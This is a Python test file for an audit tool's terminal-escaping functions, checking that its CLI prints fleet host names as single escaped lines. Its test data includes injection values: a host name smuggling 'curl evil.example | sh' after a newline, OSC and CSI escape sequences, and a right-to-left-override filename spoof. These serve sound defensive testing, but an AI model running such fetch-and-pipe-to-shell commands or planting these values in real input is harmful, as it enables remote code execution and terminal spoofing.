"""Tests for audit.terminal, and that what the CLI prints passes through it."""

from __future__ import annotations

import csv
import doctest
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import audit.terminal
from audit.cli import cli
from audit.terminal import visible, visible_line
from tests.registry_server import node_version_record


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("render-01", "render-01"),
        ("caf\u00e9 \u6e32\u67d3", "caf\u00e9 \u6e32\u67d3"),
        ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
        ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
        ("ok\rcurl x | sh", "ok\\rcurl x | sh"),
        ("a\nb", "a\\nb"),
        ("\x9b31m", "\\x9b31m"),
        ("evil\u202egnp.exe", "evil\\u202egnp.exe"),
        ("one\u2028two", "one\\u2028two"),
        ("tab\there", "tab\\there"),
    ],
    ids=[
        "plain",
        "unicode",
        "osc-title",
        "csi-clear",
        "carriage-return",
        "newline",
        "c1-csi",
        "bidi-override",
        "line-separator",
        "tab",
    ],
)
def test_visible_line(text: str, shown: str) -> None:
    assert visible_line(text) == shown


@given(st.text())
def test_a_line_stays_one_line_without_escapes(text: str) -> None:
    shown = visible_line(text)
    assert len(shown.splitlines()) <= 1
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in shown)


def test_visible_keeps_the_lines_it_is_given() -> None:
    assert visible("a\x1b\nb").split("\n") == ["a\\x1b", "b"]


def test_doctests() -> None:
    assert doctest.testmod(audit.terminal).failed == 0


def test_advise_prints_hostile_host_names_as_one_visible_line(tmp_path: Path) -> None:
    mirror = tmp_path / "mirror.jsonl"
    records = [
        node_version_record("comfyui-foo", "1.0.0", supported_comfyui_version="<0.4.0"),
        node_version_record("comfyui-foo", "1.2.0", supported_comfyui_version=">=0.3.0"),
    ]
    mirror.write_text("".join(json.dumps(r) + "\n" for r in records))
    manifest = tmp_path / "fleet.csv"
    with manifest.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["host", "node_id", "version"])
        writer.writerow(["gpu-01\ncurl evil.example | sh", "comfyui-foo", "1.0.0"])
        writer.writerow(["\x1b]0;owned\x07gpu-02", "comfyui-foo", "1.0.0"])
    args = [
        "advise", manifest, "--registry", mirror, "--os", "linux",
        "--comfyui-version", "0.3.40", "--target-comfyui", "0.4.0",
    ]  # fmt: skip
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    lines = result.stdout.splitlines()
    assert not any(line.startswith("curl") for line in lines)
    assert "\x1b" not in result.stdout
    assert "# gpu-01\\ncurl evil.example | sh: safe after 1 pack change: " in result.stdout
    assert "# \\x1b]0;owned\\x07gpu-02: safe after 1 pack change: " in result.stdout
